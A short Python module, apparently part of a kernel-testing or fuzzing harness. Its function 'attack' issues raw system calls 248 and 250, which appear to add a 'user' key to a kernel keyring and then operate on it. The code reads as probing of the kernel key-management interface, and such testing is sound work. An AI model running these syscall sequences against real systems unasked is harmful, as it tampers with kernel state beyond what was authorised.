"""Stores a key in the kernel."""

from tools import each, system_call


def attack():
    return each(
        lambda: system_call(248, 217, b"user", b"noughts", b"x", 1, -2), lambda: system_call(250, 219, 0, -3, 0)
    )
